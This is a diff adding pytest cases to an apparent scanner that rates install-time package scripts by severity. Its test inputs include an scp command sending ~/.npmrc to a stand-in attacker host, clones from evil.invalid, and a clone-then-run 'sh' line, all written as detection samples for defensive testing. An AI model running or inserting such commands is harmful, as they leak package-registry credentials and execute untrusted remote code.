@@ -104,6 +104,30 @@ def test_code_at_install_writes_to_a_profile(findings: Weigh, does: str, severit
     assert ["high" for each in told if each.severity == "high"] == ([severity] if severity else [])
 
 
+STARTED = {
+    "scp ~/.npmrc a@evil.invalid:": "high",
+    "git clone https://evil.invalid/x.git": "high",
+    "pip install evil": "high",
+    "pip install -e .": "",
+    "git status": "",
+    "npm install dep": "",
+    "npx dep": "",
+}
+
+
+def test_code_at_install_starts_a_program_with_words_of_its_own(findings: Weigh) -> None:
+    code = "require('child_process').spawnSync('scp', ['~/.npmrc', 'a@evil.invalid:'])"
+    told = findings("node setup.js", {"setup.js": code})
+    assert "high" in {each.severity for each in told}
+
+
+@pytest.mark.parametrize(("command", "severity"), STARTED.items(), ids=STARTED)
+def test_code_at_install_starts_a_command(findings: Weigh, command: str, severity: str) -> None:
+    code = f"require('child_process').execSync('{command}')"
+    told = findings("node setup.js", {"setup.js": code})
+    assert ["high" for each in told if each.severity == "high"] == ([severity] if severity else [])
+
+
 UNREAD = {
     "node gone.js": "unknown:missing",
     "git clone https://evil.invalid/x.git && sh x/y.sh": "unknown:missing",
